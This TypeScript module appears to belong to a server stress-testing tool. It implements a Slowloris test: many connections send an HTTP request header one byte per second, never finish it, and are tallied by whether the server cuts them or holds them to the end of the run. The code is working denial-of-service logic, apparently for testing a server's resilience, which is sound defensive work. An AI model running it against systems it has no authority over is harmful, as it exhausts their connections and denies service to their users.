import type { Clock } from "../../core/clock.ts";
import { NAVIGATION } from "./heads.ts";
import { Line } from "./line.ts";
import { type Outcome, outcomeOf } from "./outcome.ts";
import { pause } from "./pacer.ts";
import { Tally } from "./tally.ts";
import { sourceOf, type StressTarget } from "./target.ts";

const BYTE_EVERY_MS = 1_000;
/** Longer than any run. */
const LONGEST_MS = 3_600_000;
const STILL_HELD: Outcome = { kind: "passed", by: "held to the end of the run", status: null };

/** Connections to hold, and for how long at most. */
export interface HoldOptions {
  readonly target: StressTarget;
  /** Of the run: see `sourceOf`. */
  readonly seed: number;
  readonly connections: number;
  readonly clock: Clock;
  /** Whoever is not cut by then has passed. */
  readonly stop: AbortSignal;
}

/**
 * Slowloris: connections that send their head byte by byte and never end it, each for as long as it is let. A cut
 * connection counts as refused, by its answer where one came, with the time that it was held.
 */
export async function hold({ target, seed, connections, clock, stop }: HoldOptions): Promise<Tally> {
  const tally = new Tally();
  const head = `GET ${target.path} HTTP/1.1\r\nHost: ${target.host}\r\n` +
    NAVIGATION.map(([name, value]) => `${name}: ${value}\r\n`).join("");
  await Promise.all(Array.from({ length: connections }, () => holdOne()));
  return tally;

  async function holdOne(): Promise<void> {
    const startedAt = clock.monotonic();
    const line = await Line.open(target, sourceOf(target, seed, 0));
    if (typeof line === "string") return tally.add(outcomeOf(line), 0);
    const over = new AbortController();
    const end = () => over.abort();
    stop.addEventListener("abort", end);
    const reply = line.answer("GET", LONGEST_MS).finally(end);
    for (let at = 0; !over.signal.aborted && !stop.aborted; at++) {
      line.send(head[at] ?? "x");
      await pause(BYTE_EVERY_MS, over.signal);
    }
    stop.removeEventListener("abort", end);
    if (stop.aborted) {
      line.close();
      await reply;
      return tally.add(STILL_HELD, 0);
    }
    tally.add(outcomeOf(await reply), clock.monotonic() - startedAt);
    line.close();
  }
}
